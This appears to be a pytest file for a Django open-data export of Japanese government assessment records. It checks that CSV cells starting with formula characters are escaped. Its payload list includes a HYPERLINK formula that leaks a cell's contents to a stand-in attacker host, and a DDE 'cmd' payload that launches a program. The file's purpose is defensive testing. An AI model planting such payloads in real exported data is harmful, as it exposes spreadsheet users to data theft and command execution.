"""The open-data files as a spreadsheet user receives them."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client
from django.urls import reverse

from compliance.accounts.models import Organization
from compliance.lib.vocabulary import Body, OrganizationKind
from tests.factories import OrganizationFactory
from tests.public import factories
from tests.public.factories import finding, published

pytestmark = pytest.mark.django_db


@pytest.fixture
def org_national(db: None) -> Organization:
    return OrganizationFactory(
        name="デジタル庁", name_en="Digital Agency", code="digital-agency", prefecture="",
        kind=OrganizationKind.NATIONAL_BODY, body=Body.MINISTER,
    )  # fmt: skip


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"詳細")',
    "+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _csv(client: Client, dataset: str) -> list[dict[str, str]]:
    response = client.get(reverse("public:download", args=[dataset, "csv"]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", FORMULAS)
def test_an_affair_named_like_a_formula_reaches_the_csv_as_text(client: Client, org_a, payload: str) -> None:
    published(org_a, name=payload)
    (row,) = _csv(client, "assessments")
    assert row["affair"] == "'" + payload


def test_a_justification_written_like_a_formula_reaches_the_findings_csv_as_text(
    client: Client, org_a
) -> None:
    published(org_a, name="=cmd|' /C calc'!A0", findings=[finding(justification="@SUM(1+1)*cmd")])
    (row,) = _csv(client, "findings")
    assert row["affair"] == "'=cmd|' /C calc'!A0"
    assert row["justification"] == "'@SUM(1+1)*cmd"
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def _jsonl(client: Client, dataset: str) -> list[dict]:
    response = client.get(reverse("public:download", args=[dataset, "jsonl"]))
    return [json.loads(line) for line in b"".join(response.streaming_content).decode().splitlines()]


def _published_with_cover_number(org_a, number: str, monkeypatch):
    """A publication whose basic form answers 評価書番号 (the cover's number) as officers fill it in."""
    plain = factories.document_for

    def with_number(*args, **kwargs):
        document = plain(*args, **kwargs)
        document["forms"][0]["answers"]["assessment_number"] = number
        return document

    monkeypatch.setattr(factories, "document_for", with_number)
    return published(org_a, name="税務事務", findings=[finding()])


def test_the_files_carry_the_local_government_code_the_cover_number_and_absolute_links(
    client: Client, org_a, org_national, monkeypatch
) -> None:
    assessment = _published_with_cover_number(org_a, "苫小牧市-2026-01", monkeypatch)
    published(org_national, name="国の事務")
    rows = {row["organization_name"]: row for row in _csv(client, "assessments")}
    row = rows[org_a.name]
    assert row["organization_code"] == "012131"
    assert row["number"] == "苫小牧市-2026-01"
    assert row["url"] == f"http://testserver/published/{assessment.pk}/"
    assert rows[org_national.name]["organization_code"] == ""  # a national body has no such code
    (finding_row,) = _csv(client, "findings")
    assert finding_row["organization_code"] == "012131"


def test_the_configured_origin_builds_the_links(client: Client, org_a, settings) -> None:
    settings.HYOKA_PUBLIC_ORIGIN = "https://hyoka.example.jp"
    assessment = published(org_a, name="税務事務")
    (record,) = _jsonl(client, "assessments")
    assert record["url"] == f"https://hyoka.example.jp/published/{assessment.pk}/"


def test_csv_json_lines_and_the_api_name_the_same_fields_alike(client: Client, org_a, monkeypatch) -> None:
    _published_with_cover_number(org_a, "苫小牧市-2026-01", monkeypatch)
    (csv_row,) = _csv(client, "assessments")
    (jsonl_record,) = _jsonl(client, "assessments")
    (api_record,) = client.get(reverse("public:api_assessments")).json()["results"]
    assert set(csv_row) == set(jsonl_record)
    shared = set(csv_row) & set(api_record)
    assert set(csv_row) - {"state"} <= shared | {"state"}
    for name in ("assessment_id", "version_id", "organization_id", "organization_code", "number", "url"):
        assert str(api_record[name]) == csv_row[name], name
    assert api_record["fields"] == jsonl_record["fields"]
    # The release-1 names still answer, for one release.
    assert api_record["id"] == api_record["assessment_id"]
    assert api_record["organization"] == api_record["organization_id"]
    (api_finding,) = client.get(reverse("public:api_findings")).json()["results"]
    (csv_finding,) = _csv(client, "findings")
    assert str(api_finding["assessment_id"]) == csv_finding["assessment_id"]
    assert api_finding["assessment"] == api_finding["assessment_id"]


def test_the_open_data_page_states_the_licence(client: Client) -> None:
    page = client.get(reverse("public:open_data")).content.decode()
    assert "公共データ利用規約（第1.0版）" in page
    assert reverse("public:api_docs") in page
